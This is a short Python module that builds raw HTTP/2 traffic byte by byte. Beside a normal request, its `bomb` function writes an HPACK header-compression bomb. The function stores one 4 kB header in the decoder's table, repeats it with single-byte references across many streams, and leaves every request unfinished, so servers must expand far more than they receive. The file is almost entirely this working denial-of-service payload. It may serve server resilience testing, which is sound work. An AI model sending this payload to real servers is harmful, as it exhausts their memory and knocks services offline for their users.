"""HTTP/2 byte by byte, to send what no client would: headers that unpack to much more."""

from __future__ import annotations

from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS = 0, 1, 4
END_STREAM, END_HEADERS = 1, 4
GET: Final = b"\x82\x84\x86\x01\x01x"  # :method GET, :path /, :scheme http, :authority x
VALUE: Final = 4000  # bytes of the one header that all others repeat
AGAIN: Final = b"\xbe"  # the newest entry of the table: a byte for `VALUE` of them


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (
        len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
    )


def opening() -> bytes:
    return PREFACE + frame(SETTINGS, 0, 0)


def hello() -> bytes:
    """A request as any client sends it."""
    return opening() + frame(HEADERS, END_HEADERS | END_STREAM, 1, GET)


def bomb(streams: int, times: int) -> bytes:
    """So many requests whose headers repeat one of 4 kB so many times; no request ends."""
    # A literal with a new name, kept in the table: its length is 127 + 3873, as RFC 7541 writes it.
    kept = b"\x40\x01a\x7f" + bytes((VALUE - 127 & 0x7F | 0x80, VALUE - 127 >> 7)) + b"v" * VALUE
    sent = [opening()]
    for number in range(streams):
        packed = GET + (kept if number == 0 else b"") + AGAIN * times
        sent.append(frame(HEADERS, END_HEADERS, 2 * number + 1, packed))
    return b"".join(sent)
